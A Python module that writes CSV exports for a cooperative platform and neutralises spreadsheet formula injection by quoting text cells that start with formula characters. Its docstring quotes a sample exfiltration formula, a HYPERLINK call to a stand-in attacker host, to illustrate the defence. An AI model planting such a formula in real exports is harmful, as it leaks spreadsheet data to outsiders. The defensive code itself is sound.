"""CSV the platform writes: every text cell opens in a spreadsheet as text, never as a
formula (OWASP, "CSV Injection").

Any text a cooperative typed (a product's, a warehouse's or a cooperative's name, a
member number) may reach a regional officer's spreadsheet. A cell that starts with
``=``, ``+``, ``-``, ``@``, a tab, a carriage return or a line feed, or with their
full-width forms (U+FF1D, U+FF0B, U+FF0D, U+FF20, which spreadsheets in East Asian
locales may read as the same), gets a leading single quote: ``=HYPERLINK("http://evil.example/?d="&A1)``
arrives as the text ``'=HYPERLINK(...)``. Numbers are written as numbers: a negative
amount or growth stays ``-1500`` (only ``str`` cells are text). Quoting of commas,
quotes and line breaks is the ``csv`` module's.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

__all__ = ["FORMULA_LEADS", "csv_cell", "write_csv"]

FORMULA_LEADS = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")


def csv_cell(value: object) -> object:
    """``value`` as a CSV cell: None is empty, a bool ``true``/``false``, a number as it
    is, text neutralised when a spreadsheet would read it as a formula."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, str) and value[:1] in FORMULA_LEADS:
        return "'" + value
    return value


def write_csv(header: Sequence[object], rows: Iterable[Sequence[object]], *,
              lineterminator: str = "\r\n") -> str:
    """A header line and one line per row, every cell through ``csv_cell``."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator=lineterminator)
    writer.writerow([csv_cell(cell) for cell in header])
    writer.writerows([csv_cell(cell) for cell in row] for row in rows)
    return out.getvalue()
